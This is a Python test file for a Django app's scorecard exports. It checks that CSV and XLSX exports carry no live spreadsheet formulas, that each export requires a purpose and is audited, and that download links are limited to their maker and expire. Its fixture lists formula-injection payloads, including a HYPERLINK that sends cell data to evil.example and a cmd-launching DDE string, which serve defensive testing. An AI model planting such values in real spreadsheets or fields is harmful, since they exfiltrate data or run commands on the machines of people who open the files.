"""Exports of the scorecard (S23): a purpose is required, the file runs no formula in a
spreadsheet, the export is audited with its row ids, and its link serves only its
maker, until it expires."""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ccrhub.evaluation import actions
from ccrhub.evaluation.models import Export
from ccrhub.evaluation.tests.conftest import last_event_id, new_events
from ccrhub.lib.tabular import Table

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    "\u200b =1+1",
    "|calc",
    "%0A=1",
)
FORMULA_START = ("=", "+", "-", "@", "|", "%", "\t", "\r")


@pytest.fixture
def hostile_goals(personas):
    for n, title in enumerate(HOSTILE):
        goal = actions.create_goal(personas.ccr, title=title, actor=personas.coordinator)
        indicator = actions.create_indicator(
            goal,
            title=title,
            question="how_much",
            level="performance",
            source="manual",
            unit="count",
            source_note=title,
            actor=personas.coordinator,
        )
        today = timezone.localdate()
        actions.record_measurement(
            indicator,
            period_start=today.replace(day=1),
            period_end=today,
            numerator=20 + n,
            actor=personas.coordinator,
        )
    return personas


def make_export(client, personas, fmt: str, purpose: str = "Quarterly board pack"):
    url = reverse("evaluation:export-create", args=[personas.ccr.public_id])
    return client.post(url, {"format": fmt, "purpose": purpose})


def download(client, export: Export):
    return client.get(reverse("evaluation:export-download", args=[export.public_id]))


def assert_no_formula(value) -> None:
    if isinstance(value, str):
        stripped = value.lstrip(" \ufeff\u00a0\u200b")
        assert not stripped.startswith(FORMULA_START), repr(value)


def test_a_csv_export_runs_no_formula(client_as, hostile_goals) -> None:
    client = client_as(hostile_goals.coordinator)
    response = make_export(client, hostile_goals, "csv")
    assert response.status_code == 200
    export = Export.objects.get()
    body = download(client, export)
    assert body.status_code == 200
    assert body["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(body.content.decode("utf-8-sig"))))
    titles = {row[1] for row in rows[1:]}
    assert len(titles) == len(HOSTILE)
    for row in rows:
        for cell in row:
            assert_no_formula(cell)
    assert "'=HYPERLINK" in body.content.decode("utf-8-sig")


def test_an_xlsx_export_holds_text_not_formulas(client_as, hostile_goals) -> None:
    client = client_as(hostile_goals.coordinator)
    make_export(client, hostile_goals, "xlsx")
    body = download(client, Export.objects.get())
    sheet = load_workbook(io.BytesIO(body.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert_no_formula(cell.value)


def test_an_export_needs_a_purpose(client_as, hostile_goals) -> None:
    response = make_export(client_as(hostile_goals.coordinator), hostile_goals, "csv", purpose=" ")
    assert response.status_code == 200
    assert not Export.objects.exists()


def test_the_export_is_audited_with_its_row_ids(client_as, hostile_goals) -> None:
    since = last_event_id()
    make_export(client_as(hostile_goals.coordinator), hostile_goals, "csv")
    [event] = new_events(since)
    assert event.action == "evaluation.exported"
    assert event.reason == "Quarterly board pack"
    ids = event.details["row_ids"]
    assert event.details["rows"] == len(ids) > 0
    from ccrhub.evaluation.models import Indicator

    assert set(ids) == {str(i) for i in Indicator.objects.values_list("public_id", flat=True)}
    assert not any(title in str(event.details) for title in HOSTILE[:1])


def test_small_counts_are_hidden_in_an_export(client_as, personas) -> None:
    goal = actions.create_goal(personas.ccr, title="Goal", actor=personas.coordinator)
    indicator = actions.create_indicator(
        goal,
        title="Few",
        question="how_much",
        level="performance",
        source="manual",
        unit="count",
        source_note="Log",
        actor=personas.coordinator,
    )
    today = timezone.localdate()
    actions.record_measurement(
        indicator,
        period_start=today.replace(day=1),
        period_end=today,
        numerator=4,
        actor=personas.coordinator,
    )
    client = client_as(personas.coordinator)
    make_export(client, personas, "csv")
    rows = list(
        csv.reader(io.StringIO(download(client, Export.objects.get()).content.decode("utf-8-sig")))
    )
    assert rows[1][6] == "—"


def test_only_the_maker_downloads_until_it_expires(client_as, hostile_goals) -> None:
    p = hostile_goals
    make_export(client_as(p.coordinator), p, "csv")
    export = Export.objects.get()
    assert download(client_as(p.analyst), export).status_code == 403  # exports nothing
    assert download(client_as(p.outsider), export).status_code == 404
    later = timezone.now() + datetime.timedelta(hours=25)
    with time_machine.travel(later):
        assert download(client_as(p.coordinator), export).status_code == 404


def test_members_may_not_export(client_as, personas) -> None:
    for persona in (personas.analyst, personas.police_officer):
        assert make_export(client_as(persona), personas, "csv").status_code == 403
    assert make_export(client_as(personas.outsider), personas, "csv").status_code == 404


def test_expired_exports_are_purged_by_retention_only_with_commit(personas) -> None:
    from django.core.management import call_command

    actions.create_export(
        personas.ccr,
        format="csv",
        purpose="Board",
        table=Table(name="scorecard", header=["Goal"], rows=[], row_ids=[]),
        actor=personas.coordinator,
    )
    with time_machine.travel(timezone.now() + datetime.timedelta(days=2)):
        call_command("purge", "--category", "exports")
        assert Export.objects.count() == 1
        call_command("purge", "--commit", "--category", "exports")
        assert Export.objects.count() == 0


def test_an_export_whose_audit_event_fails_is_not_kept(client_as, hostile_goals, audit_refused):
    with audit_refused():
        make_export(client_as(hostile_goals.coordinator), hostile_goals, "csv")
    assert not Export.objects.exists()
